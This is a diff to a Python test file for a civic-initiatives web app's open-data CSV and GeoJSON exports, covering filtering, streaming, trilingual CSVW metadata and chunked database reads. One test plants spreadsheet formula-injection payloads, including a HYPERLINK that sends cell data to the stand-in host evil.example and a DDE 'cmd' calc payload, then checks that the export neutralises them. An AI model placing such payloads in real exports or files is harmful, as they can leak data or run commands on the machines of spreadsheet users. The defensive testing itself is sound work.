@@ -112,6 +112,11 @@ def test_filters_apply_to_list_and_map(client, initiatives, query, expected):
     assert listed(response) == ids(initiatives, *expected)
     markers = client.get(f"/fr/initiatives/markers/?{query}").json()["markers"]
     assert sorted(marker[0] for marker in markers) == ids(initiatives, *expected)
+    # The open exports hold the same records as the map and its list for the same filters.
+    geojson = json.loads(client.get(f"/fr/initiatives/export/geojson/?{query}").getvalue())
+    assert sorted(feature["id"] for feature in geojson["features"]) == ids(initiatives, *expected)
+    rows = csv.DictReader(io.StringIO(client.get(f"/fr/initiatives/export/csv/?{query}").getvalue().decode()))
+    assert sorted(int(row["id"]) for row in rows) == ids(initiatives, *expected)
 
 
 @pytest.mark.parametrize(
@@ -150,7 +155,9 @@ def test_geojson_export_is_valid_and_public_only(client, initiatives):
     response = client.get("/nl/initiatives/export/geojson/?commune=ixelles")
     assert response["Content-Type"] == "application/geo+json"
     assert 'rel="license"' in response["Link"]
-    data = json.loads(response.content)
+    assert response.streaming
+    body = response.getvalue().decode()
+    data = json.loads(body)
     assert data["type"] == "FeatureCollection"
     assert data["license"]
     assert {f["id"] for f in data["features"]} == set(ids(initiatives, "square", "climate"))
@@ -165,13 +172,14 @@ def test_geojson_export_is_valid_and_public_only(client, initiatives):
     assert square["methods"] == ["world-cafe"]
     assert square["communes"] == ["ixelles"]
     for private in PRIVATE:
-        assert private not in response.content.decode()
+        assert private not in body
 
 
 def test_csv_export_is_utf8_with_stable_header(client, initiatives):
     response = client.get("/fr/initiatives/export/csv/")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    text = response.content.decode("utf-8")
+    assert response.streaming
+    text = response.getvalue().decode("utf-8")
     rows = list(csv.DictReader(io.StringIO(text)))
     assert list(rows[0]) == EXPORT_FIELDS
     assert {int(row["id"]) for row in rows} == set(ids(initiatives, "square", "bikes", "climate"))
@@ -182,6 +190,78 @@ def test_csv_export_is_utf8_with_stable_header(client, initiatives):
     assert climate["communes"] in ("bruxelles|ixelles", "ixelles|bruxelles")
     for private in PRIVATE:
         assert private not in text
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, initiatives):
+    hostile = initiative_create(
+        titles={"fr": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'},
+        organisers="+33 cmd|' /C calc'!A0",
+        partners="@SUM(1+1)",
+        providers="-2+3",
+    )
+    rows = csv.DictReader(io.StringIO(client.get("/fr/initiatives/export/csv/").getvalue().decode()))
+    row = next(row for row in rows if int(row["id"]) == hostile.pk)
+    assert row["title"] == """'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")"""
+    assert row["organisers"] == "'+33 cmd|' /C calc'!A0"
+    assert row["partners"] == "'@SUM(1+1)"
+    assert row["providers"] == "'-2+3"
+    # Numbers and ordinary text are written as they are.
+    assert row["latitude"] == "50.8467" and row["status"] == "finished"
+    # GeoJSON is data, not a spreadsheet: its values stay exact.
+    geojson = json.loads(client.get("/fr/initiatives/export/geojson/").getvalue())
+    feature = next(feature for feature in geojson["features"] if feature["id"] == hostile.pk)
+    assert feature["properties"]["partners"] == "@SUM(1+1)"
+
+
+def test_csv_links_its_column_descriptions_in_three_languages(client, initiatives, tmp_path):
+    from csvw import Table
+
+    response = client.get("/nl/initiatives/export/csv/?theme=mobility")
+    link = response["Link"]
+    assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in link
+    assert '<http://testserver/nl/initiatives/export/csv/metadata/>; rel="describedby"' in link
+    metadata_response = client.get("/nl/initiatives/export/csv/metadata/")
+    assert metadata_response["Content-Type"] == "application/csvm+json"
+    metadata = metadata_response.json()
+    columns = metadata["tableSchema"]["columns"]
+    header = response.getvalue().decode().splitlines()[0].split(",")
+    assert [column["name"] for column in columns] == header == EXPORT_FIELDS
+    for column in columns:
+        assert set(column["titles"]) == {"und", "fr", "nl", "en"}, column["name"]
+        descriptions = {text["@language"]: text["@value"] for text in column["dc:description"]}
+        assert set(descriptions) == {"fr", "nl", "en"} and all(descriptions.values()), column["name"]
+        assert descriptions["fr"] != descriptions["en"] and descriptions["nl"] != descriptions["en"], column["name"]
+    by_name = {column["name"]: column for column in columns}
+    assert by_name["communes"]["separator"] == "|" and by_name["latitude"]["datatype"] == "decimal"
+    assert by_name["title"]["titles"]["nl"] == "titel"
+    # A CSVW processor reads the file with its metadata: every cell of every row has the declared type.
+    (tmp_path / "initiatives.csv").write_bytes(client.get("/fr/initiatives/export/csv/").getvalue())
+    (tmp_path / "initiatives.csv-metadata.json").write_text(json.dumps({**metadata, "url": "initiatives.csv"}))
+    table = Table.from_file(tmp_path / "initiatives.csv-metadata.json")
+    rows = list(table.iterdicts(strict=True))
+    assert {row["id"] for row in rows} == set(ids(initiatives, "square", "bikes", "climate"))
+    climate = next(row for row in rows if row["id"] == initiatives["climate"].pk)
+    assert sorted(climate["communes"]) == ["bruxelles", "ixelles"] and climate["is_demo"] is False
+
+
+def test_map_page_links_the_exports_their_column_descriptions_and_the_open_data_page(client, initiatives):
+    html = client.get("/en/initiatives/?commune=ixelles").content.decode()
+    assert elements(html, "a", href="/en/initiatives/export/csv/metadata/", rel="describedby")
+    assert elements(html, "a", href="/en/open-data/")
+
+
+def test_exports_stream_and_read_the_database_by_chunks(client, initiatives, monkeypatch):
+    from participation.initiatives import selectors
+
+    monkeypatch.setattr(selectors, "EXPORT_CHUNK_SIZE", 2)
+    for url in ("/fr/initiatives/export/csv/", "/fr/initiatives/export/geojson/"):
+        response = client.get(url)
+        assert response.streaming and not response.has_header("Content-Length")
+        three = query_count(client, url)  # two chunks: 2 + 1
+        initiative_create(titles={"fr": "Une quatrième"})
+        assert query_count(client, url) == three, "one more initiative fills the last chunk: no more queries"
+        initiative_create(titles={"fr": "Une cinquième"})
+        assert query_count(client, url) > three, "and one more needs another chunk"
 
 
 @pytest.mark.parametrize(
